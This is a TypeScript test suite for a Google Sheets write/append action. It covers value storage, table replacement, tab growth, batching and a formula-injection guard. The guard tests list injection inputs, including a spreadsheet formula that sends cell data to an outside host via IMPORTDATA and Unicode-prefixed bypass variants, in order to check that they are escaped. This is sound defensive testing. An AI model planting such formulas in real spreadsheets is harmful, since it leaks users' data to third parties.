import { DateTime } from 'luxon';

import { isNodeError } from '../../../../nodes/core/errors';
import { isNumberText } from '../../../../nodes/Workspace/actions/spreadsheet/cells';
import { expectLinear } from '../../../growth';
import { testItem } from '../../client';
import { catchFailure } from '../../catchFailure';
import { items, SheetCalls } from './sheetCalls';

const calls = new SheetCalls();

test('rows are one PUT, stored as they stand', async () => {
	const spreadsheetId = calls.sheet();
	const values = [
		['=1+1', '007', '1/2'],
		[7, true, '-5'],
	];
	const written = await calls.one('write', { spreadsheetId, range: 'Sheet1!B2', values });
	expect(written).toEqual({
		spreadsheetId,
		updatedRange: 'Sheet1!B2:D3',
		updatedRows: 2,
		updatedColumns: 3,
		updatedCells: 6,
	});
	expect(calls.sent.at(-1)).toEqual({
		method: 'values.update',
		path: `/v4/spreadsheets/${spreadsheetId}/values/Sheet1!B2`,
		query: { valueInputOption: 'RAW' },
		body: { values },
	});
	expect(calls.stored(spreadsheetId, 'Sheet1!B2:D3')).toEqual(values);
});

test('null leaves a cell, "" clears it', async () => {
	const spreadsheetId = calls.sheet([['a', 'b', 'c']]);
	await calls.one('write', { spreadsheetId, range: 'Sheet1', values: [[null, '', 'z']] });
	expect(calls.stored(spreadsheetId, 'Sheet1')).toEqual([['a', '', 'z']]);
});

test.each(['write', 'append'] as const)(
	'%s: arrays become their values, objects their JSON text',
	async (name) => {
		const spreadsheetId = calls.sheet();
		const day = new Date('2026-03-01T12:00:00Z');
		const values = [
			[['INBOX', 'UNREAD'], [1, null, true, day], [], { a: [1] }, [{ a: 1 }, [2]]],
		];
		await calls.one(name, { spreadsheetId, range: 'Sheet1', values });
		expect(calls.stored(spreadsheetId, 'Sheet1')).toEqual([
			[
				'INBOX, UNREAD',
				'1, , true, 2026-03-01T12:00:00.000Z',
				'',
				'{"a":[1]}',
				'[{"a":1},[2]]',
			],
		]);
		const round: { self?: unknown } = {};
		round.self = round;
		const refused = await catchFailure(
			calls.one(name, { spreadsheetId, range: 'Sheet1', values: [[round]] }),
		);
		expect(refused.message).toBe("Row 1, column 1 of 'values' does not fit in a cell");
	},
);

test('a cell holds 50,000 characters, and a hole of a sparse array nothing', async () => {
	const spreadsheetId = calls.sheet([['a', 'b', 'c']]);
	const text = 'x'.repeat(50_000);
	const values = [Object.assign(Array<unknown>(3), [text])];
	const written = await calls.one('write', { spreadsheetId, range: 'Sheet1', values });
	expect(written).toMatchObject({ updatedCells: 1 });
	expect(calls.stored(spreadsheetId, 'Sheet1')).toEqual([[text, 'b', 'c']]);
});

test('dates become ISO 8601 in UTC', async () => {
	const spreadsheetId = calls.sheet();
	const date = new Date('2026-03-01T12:00:00+02:00');
	const luxon = DateTime.fromJSDate(date, { zone: 'utc' });
	const values = [[date, luxon]];
	await calls.one('write', { spreadsheetId, range: 'Sheet1', values });
	const text = '2026-03-01T10:00:00.000Z';
	expect(calls.stored(spreadsheetId, 'Sheet1')).toEqual([[text, text]]);
});

test.each<[string, unknown[][], string]>([
	['not a number', [[NaN]], "Row 1, column 1 of 'values' does not fit in a cell"],
	['no date', [[new Date(NaN)]], "Row 1, column 1 of 'values' does not fit in a cell"],
	['a function', [[() => 1]], "Row 1, column 1 of 'values' does not fit in a cell"],
	[
		'empty rows and rows that are objects',
		[[], { a: 1 }] as never,
		"'values' mixes rows of cells with objects",
	],
	['a long text', [['x'.repeat(50_001)]], "Row 1, column 1 of 'values' does not fit in a cell"],
	['nothing', [], "'values' has no cells"],
	['empty rows', [[], []], "'values' has no cells"],
])('refused before anything is sent: %s', async (_, values, message) => {
	const failure = await catchFailure(
		calls.run('write', { spreadsheetId: calls.sheet(), range: 'Sheet1', values }),
	);
	expect(failure).toMatchObject({ code: 400, status: 'INVALID_ARGUMENT', message });
	expect(failure.description).toBeTruthy();
	expect(calls.sent).toEqual([]);
});

test('past an area: Google says no, and what to do is said', async () => {
	const spreadsheetId = calls.sheet();
	const failure = await catchFailure(
		calls.run('write', { spreadsheetId, range: 'Sheet1!A1:B1', values: [['a'], ['b']] }),
	);
	expect(failure.code).toBe(400);
	expect(failure.message).toMatch(/tried writing to row/);
	expect(failure.description).toContain('To write below the last row, use Append');
});

describe('the formula guard', () => {
	const write = async (values: unknown[][], more = {}) => {
		const spreadsheetId = calls.sheet();
		await calls.one('write', {
			spreadsheetId,
			range: 'Sheet1',
			values,
			valueInputOption: 'USER_ENTERED',
			...more,
		});
		return (calls.sent.at(-1)?.body as { values: unknown[][] }).values[0];
	};

	test.each([
		'=1+1',
		'=IMPORTDATA("https://example.com?"&A1)',
		'+A1',
		'-A1',
		'-1+2',
		'@SUM(A1)',
		'\t=1',
		'\r=1',
		'\n=1',
		'＝1+1',
		'＋A1',
		'－A1',
		'＠SUM(A1)',
		'-',
		'+',
		' =1',
		'\u00A0=1',
		'\u3000+A1',
		'\uFEFF=1',
		'\u2028@x',
		'\u200B=1',
		'\u0000=1',
		'\u0085=1',
		'\u034F=1',
		'\u115F=1',
		'\u2800=1',
		'\u3164=1',
		'\uFE0F=1',
		'\uFFA0 \uFEFF=1',
		'\u{E0100}=1',
		'\uD800=1',
		'﹦1+1',
		'﹢A1',
		'﹣A1',
		'﹫x',
		'+1.2.3.4',
		'+.5%',
		'-.5',
		'+49.30.1234567',
		'+49 30 1234567',
		'+1.234.567.8',
		'+4930.123.456',
		'+1.234,567.890',
		'-1,234,5',
	])('%j gets an apostrophe', async (text) => {
		expect(await write([[text]])).toEqual([`'${text}`]);
	});

	test.each([
		'-5',
		'+1.5',
		'-1,234.50',
		'-1.234.567,8',
		'-1,234,567.8',
		'+1.234.567',
		'-12345.678',
		' -5',
		'+1e5',
		'-12%',
		'5',
		'a=b',
		'',
		"'=1",
	])('%j stays as it is', async (text) => {
		expect(await write([[text]])).toEqual([text]);
	});

	test('whether a text is a number is found in the time of its length', () => {
		expectLinear('1', (text) => `${text}x`, isNumberText);
	});

	test('numbers and booleans stay what they are', async () => {
		expect(await write([[-5, true, null]])).toEqual([-5, true, null]);
	});

	test('it can be turned off', async () => {
		expect(await write([['=1+1']], { escapeFormulas: false })).toEqual(['=1+1']);
	});

	test('RAW needs none', async () => {
		expect(await write([['=1+1']], { valueInputOption: 'RAW' })).toEqual(['=1+1']);
	});
});

describe('input items', () => {
	const given = (spreadsheetId: string, more = {}) => ({
		spreadsheetId,
		range: 'Sheet1!B2',
		headerRow: 2,
		valuesSource: 'columns',
		...more,
	});

	test('are one block below a new header, columns in order of first appearance', async () => {
		const spreadsheetId = calls.sheet();
		const params = given(spreadsheetId);
		const all = items({ a: 1, b: 'x' }, { b: 'y', c: true }, { a: null });
		const written = await calls.together(
			'write',
			all.map((item) => ({ params, item })),
		);
		expect(calls.methods).toEqual(['get', 'batchUpdate']);
		expect(calls.stored(spreadsheetId, 'Sheet1!B2:D5')).toEqual([
			['a', 'b', 'c'],
			[1, 'x'],
			['', 'y', true],
		]);
		expect(written).toEqual([
			{
				spreadsheetId,
				updatedRange: 'Sheet1!B3:C3',
				updatedRows: 1,
				updatedColumns: 2,
				updatedCells: 2,
			},
			expect.objectContaining({ updatedRange: 'Sheet1!C4:D4', updatedCells: 2 }),
			expect.objectContaining({ updatedRange: 'Sheet1!B5:D5', updatedCells: 0 }),
		]);
	});

	describe('where other names stand', () => {
		const table = [
			['Id', 'State', 'Note'],
			[1, 'open', 'a'],
			[2, 'open', 'b'],
		];
		const one = async (
			spreadsheetId: string,
			more: object,
			json: object = { Id: 1, State: 'paid' },
		) => {
			const params = { spreadsheetId, tab: 'Sheet1', valuesSource: 'columns', ...more };
			const all = items(json as never).map((item) => ({ params, item }));
			return (await calls.together('write', all))[0];
		};

		test('overwriting keeps the header and its order', async () => {
			const spreadsheetId = calls.sheet(table);
			const json = { Note: 'n', State: 'paid', Id: 7 };
			expect(await one(spreadsheetId, {}, json)).toMatchObject({
				updatedRange: 'Sheet1!A2:C2',
				updatedCells: 3,
			});
			expect(calls.stored(spreadsheetId, 'Sheet1')).toEqual([
				['Id', 'State', 'Note'],
				[7, 'paid', 'n'],
				[2, 'open', 'b'],
			]);
		});

		test('overwriting refuses names that are no columns, or adds them', async () => {
			const spreadsheetId = calls.sheet(table);
			expect(await one(spreadsheetId, {}, { Id: 1, More: 2 })).toMatchObject({
				code: 400,
				message: "The table has no column 'More'",
			});
			expect(calls.writes).toEqual([]);
			await one(spreadsheetId, { extraColumns: 'add' }, { Id: 1, More: 2 });
			expect(calls.stored(spreadsheetId, 'Sheet1!A1:D2')).toEqual([
				['Id', 'State', 'Note', 'More'],
				[1, 'open', 'a', 2],
			]);
		});

		test.each(['RAW', 'USER_ENTERED'])(
			'replacing clears the old table: %s',
			async (valueInputOption) => {
				const spreadsheetId = calls.sheet(
					[...table, [], ['', 'late'], []]
						.map((row) => [...row, '', '', ''])
						.map((row, at) => [...row.slice(0, 4), at === 1 ? 'beside' : '']),
				);
				const written = await one(
					spreadsheetId,
					{ writeMode: 'replace', valueInputOption },
					{ State: 'new', Id: 9 },
				);
				expect(written).toMatchObject({
					updatedRange: 'Sheet1!A1:B2',
					updatedRows: 2,
					updatedCells: 2,
				});
				expect(calls.stored(spreadsheetId, 'Sheet1!A1:D9')).toEqual([
					['Id', 'State'],
					[9, 'new'],
				]);
				expect(calls.stored(spreadsheetId, 'Sheet1!E2')).toEqual([['beside']]);
				expect(calls.writes).toHaveLength(valueInputOption === 'RAW' ? 1 : 2);
			},
		);

		test('replacing what was read keeps names of repeated and missing headers', async () => {
			const odd = [
				['Id', 'Id', '', 'error'],
				[1, 2, 3, 4],
				[5, 6, 7, 8],
			];
			const spreadsheetId = calls.sheet(odd, 'Sheet1', { rowCount: 3, columnCount: 4 });
			const rows = await calls.run('read', {
				spreadsheetId,
				output: 'rows',
				valueRenderOption: 'UNFORMATTED_VALUE',
			});
			const params = {
				spreadsheetId,
				tab: 'Sheet1',
				valuesSource: 'columns',
				writeMode: 'replace',
			};
			await calls.together(
				'write',
				[...rows, ...rows].map(({ json }) => ({
					params,
					item: items(json)[0] ?? testItem(),
				})),
			);
			expect(calls.stored(spreadsheetId, 'Sheet1')).toEqual([...odd, ...odd.slice(1)]);
		});

		test('the header of a replaced table is in the first row of the range', async () => {
			const spreadsheetId = calls.sheet([
				[],
				[],
				['', '', 'a', 'b'],
				['', '', 1, 2],
				['', '', 3],
			]);
			const params = { spreadsheetId, range: 'Sheet1!C3:F', writeMode: 'replace', tab: '' };
			expect(await one(spreadsheetId, params, { b: 5 })).toMatchObject({
				updatedRange: 'Sheet1!C3:C4',
			});
			expect(calls.stored(spreadsheetId, 'Sheet1!A1:F9')).toEqual([
				[],
				[],
				['', '', 'b'],
				['', '', 5],
			]);
		});

		test('a table that is replaced by what is taken as typed finds room', async () => {
			const spreadsheetId = calls.sheet([['a']], 'Sheet1', { rowCount: 1, columnCount: 1 });
			const params = {
				spreadsheetId,
				tab: 'Sheet1',
				valuesSource: 'columns',
				writeMode: 'replace',
			};
			const all = items({ a: '1', b: '2' }, { a: '3' }).map((item) => ({
				params: { ...params, valueInputOption: 'USER_ENTERED' },
				item,
			}));
			expect(await calls.together('write', all)).toMatchObject([
				{ updatedRange: 'Sheet1!A1:B2' },
				{ updatedRange: 'Sheet1!A3:B3' },
			]);
			expect(calls.stored(spreadsheetId, 'Sheet1')).toEqual([['a', 'b'], [1, 2], [3]]);
		});

		test('replacing in an empty tab, and with a new column', async () => {
			const spreadsheetId = calls.sheet();
			for (const json of [{ a: 1 }, { b: 2, a: 3 }]) {
				const params = {
					spreadsheetId,
					range: 'Sheet1!C3:F',
					writeMode: 'replace',
					headerRow: 3,
					tab: '',
				};
				await one(spreadsheetId, params, json);
			}
			expect(calls.stored(spreadsheetId, 'Sheet1!C3:F9')).toEqual([
				['a', 'b'],
				[3, 2],
			]);
		});
	});

	test('headers are text also where Google takes text as typed', async () => {
		const spreadsheetId = calls.sheet();
		const params = given(spreadsheetId, { valueInputOption: 'USER_ENTERED' });
		await calls.together(
			'write',
			items({ '1/2': '=1', '=x': '5' }).map((item) => ({ params, item })),
		);
		expect(calls.stored(spreadsheetId, 'Sheet1!B2:C3')).toEqual([
			['1/2', '=x'],
			['=1', 5],
		]);
	});

	test('more than Google takes well goes out in several requests, each in its place', async () => {
		const spreadsheetId = calls.sheet([], 'Sheet1', { rowCount: 2000 });
		const all = items(
			...Array.from({ length: 100 }, (_, at) => ({ at, text: 'x'.repeat(45_000) })),
		);
		const written = await calls.together(
			'write',
			all.map((item) => ({ params: given(spreadsheetId), item })),
		);
		expect(calls.methods).toEqual(['get', 'batchUpdate', 'batchUpdate', 'batchUpdate']);
		expect(written.at(-1)).toMatchObject({ updatedRange: 'Sheet1!B102:C102' });
		const column = calls.stored(spreadsheetId, 'Sheet1!B2:B2000').flat();
		expect(column).toEqual(['at', ...Array.from({ length: 100 }, (_, at) => at)]);
	});

	test('behind a request that failed nothing goes out, and the items before it keep their results', async () => {
		const spreadsheetId = calls.sheet([], 'Sheet1', { rowCount: 2000 });
		const all = items(
			...Array.from({ length: 100 }, (_, at) => ({ at, text: 'x'.repeat(45_000) })),
		);
		calls.google.fault({ match: 'sheets.spreadsheets.batchUpdate', status: 403, nth: 2 });
		const written = await calls.together(
			'write',
			all.map((item) => ({ params: given(spreadsheetId), item })),
		);
		expect(calls.methods).toEqual(['get', 'batchUpdate', 'batchUpdate']);
		const failed = written.findIndex(isNodeError);
		const stored = calls.stored(spreadsheetId, 'Sheet1!B3:B2000').flat();
		expect(stored).toEqual(Array.from({ length: failed }, (_, at) => at));
		expect(written[failed - 1]).toMatchObject({
			updatedRange: `Sheet1!B${failed + 2}:C${failed + 2}`,
		});
		expect(written[failed]).toMatchObject({ code: 403 });
		expect(written.at(-1)).toMatchObject({
			code: 403,
			message: expect.stringMatching(
				/^Not sent, because the previous rows were not written/,
			) as string,
		});
	});

	test('a field that no cell can hold is named before anything is sent', async () => {
		const params = given(calls.sheet());
		const all = items({ a: 1 }, { a: NaN }).map((item) => ({ params, item }));
		const failure = await catchFailure(calls.together('write', all));
		expect(failure.message).toBe("The input item, field 'a', does not fit in a cell");
		expect(
			(
				await catchFailure(
					calls.together(
						'write',
						items({}).map((item) => ({ params, item })),
					),
				)
			).message,
		).toBe('The input item has no values for columns');
		expect(calls.sent).toEqual([]);
	});

	test('only items with the same target go out together, and never rows from JSON', () => {
		const key = (more: object) => calls.key('write', { ...given('id'), ...more });
		expect(key({ values: undefined })).toBe(key({ range: ' Sheet1!B2' }));
		expect(key({})).not.toBe(key({ range: 'Sheet1!B3' }));
		expect(key({})).not.toBe(key({ valueInputOption: 'USER_ENTERED' }));
		expect(
			calls.key('write', { spreadsheetId: 'id', range: 'A1', values: [[1]] }),
		).toBeUndefined();
	});
});

test('a lost answer is asked for again: writing twice changes nothing', async () => {
	calls.google.fault({ match: 'sheets.spreadsheets.values.update', connection: 'resetAfter' });
	const spreadsheetId = calls.sheet();
	const written = await calls.one('write', { spreadsheetId, range: 'Sheet1', values: [['a']] });
	expect(written).toMatchObject({ updatedRange: 'Sheet1!A1' });
	expect(calls.methods).toEqual(['values.update', 'values.update']);
});

describe('rows that need room', () => {
	const rows = (count: number) => Array.from({ length: count }, (_, at) => [`n${at}`, at]);

	test('1,500 rows go into a tab of 1,000: it grows when Google has refused them', async () => {
		const spreadsheetId = calls.sheet();
		const written = await calls.one('write', {
			spreadsheetId,
			range: 'Sheet1',
			values: rows(1500),
		});
		expect(written).toMatchObject({ updatedRange: 'Sheet1!A1:B1500', updatedRows: 1500 });
		expect(calls.methods).toEqual([
			'values.update',
			'get',
			'get',
			'batchUpdate',
			'values.update',
		]);
		expect(calls.sent[3]?.body).toEqual({
			requests: [{ appendDimension: { sheetId: 0, dimension: 'ROWS', length: 500 } }],
		});
		expect(calls.stored(spreadsheetId, 'Sheet1')).toHaveLength(1500);
	});

	test('a tab that is large enough stays as it is', async () => {
		const spreadsheetId = calls.sheet([], 'Sheet1', { rowCount: 5000 });
		await calls.one('write', { spreadsheetId, range: 'Sheet1', values: rows(1500) });
		expect(calls.methods).toEqual(['values.update']);
	});

	test.each([
		['Sheet1!A1:B2', { rowCount: 1 }, 2, 2],
		['Sheet1!A1:B2', { columnCount: 1 }, 2, 2],
		['Sheet1!C1', { columnCount: 3 }, 1, 2],
		['Sheet1!A2', { rowCount: 2 }, 2, 1],
		['Sheet1!A5', { rowCount: 2 }, 2, 1],
		['Sheet1!AD3', { columnCount: 3 }, 1, 2],
	])('the tab grows as far as %s allows: %j', async (range, size, height, width) => {
		const spreadsheetId = calls.sheet([], 'Sheet1', size);
		const values = Array.from({ length: height }, () => Array<string>(width).fill('x'));
		await calls.one('write', { spreadsheetId, range, values });
		expect(calls.methods).toEqual(['values.update', 'get', 'batchUpdate', 'values.update']);
	});

	test.each([
		['columns', { valuesSource: 'columns', columns: { Name: 'Anna', New: 'x' } }],
		['json', { values: [{ Name: 'Anna', New: 'x' }] }],
		['items', { valuesSource: 'columns' }],
		['items, update', { valuesSource: 'columns', matchColumns: 'Name' }],
		['items, replace', { valuesSource: 'columns', writeMode: 'replace' }],
	])('a tab that has nothing but its header row gets the row: %s', async (_, given) => {
		const spreadsheetId = calls.sheet([['Name']], 'Sheet1', { rowCount: 1, columnCount: 1 });
		const params = { spreadsheetId, tab: 'Sheet1', extraColumns: 'add', ...given };
		const written = await calls.one(
			'write',
			params,
			testItem({ json: { Name: 'Anna', New: 'x' } }),
		);
		expect(written['updatedRange']).toMatch(/:B2$/);
		expect(calls.stored(spreadsheetId, 'Sheet1')).toEqual([
			['Name', 'New'],
			['Anna', 'x'],
		]);
	});

	test.each([
		['Sheet1', 1, 2],
		['Sheet1!A2', 3, 2],
	])(
		'rows under the header of %s, in a tab of %d, need one change',
		async (range, rowCount, start) => {
			const spreadsheetId = calls.sheet([['Name']], 'Sheet1', { rowCount });
			const values = ['a', 'b', 'c'].map((Name) => ({ Name }));
			const written = await calls.one('write', { spreadsheetId, range, values });
			expect(written).toMatchObject({
				updatedRange: `Sheet1!A${start}:A${start + 2}`,
				updatedRows: 3,
			});
			expect(calls.methods).toEqual(['get', 'batchUpdate']);
		},
	);

	test('a named range has its own bounds', async () => {
		const spreadsheetId = calls.google.sheets.seed({
			title: 'Book',
			tabs: [{ title: 'Sheet1', rowCount: 2 }],
			namedRanges: { Leads: 'Sheet1!A1:B2' },
		});
		const values = [['a'], ['b'], ['c']];
		expect(
			(await catchFailure(calls.one('write', { spreadsheetId, range: 'Leads', values })))
				.code,
		).toBe(400);
		expect(calls.methods).not.toContain('batchUpdate');
	});

	test.each(['Sheet1!A1:B10', 'Sheet1!A1:A20'])('%s stays refused', async (range) => {
		const spreadsheetId = calls.sheet();
		expect(
			(await catchFailure(calls.one('write', { spreadsheetId, range, values: rows(20) })))
				.code,
		).toBe(400);
		expect(calls.methods).not.toContain('batchUpdate');
	});

	test('null in the first column of appended rows', async () => {
		const spreadsheetId = calls.sheet([['a', 'b']]);
		const values = [
			[null, 1],
			[null, 2],
		];
		const appended = await calls.one('append', { spreadsheetId, range: 'Sheet1!A:B', values });
		expect(appended).toMatchObject({ updatedRange: 'Sheet1!B2:B3', updatedCells: 2 });
		expect(calls.stored(spreadsheetId, 'Sheet1!A2:B3')).toEqual([['', 1], ['', 2]]); // prettier-ignore
	});
});
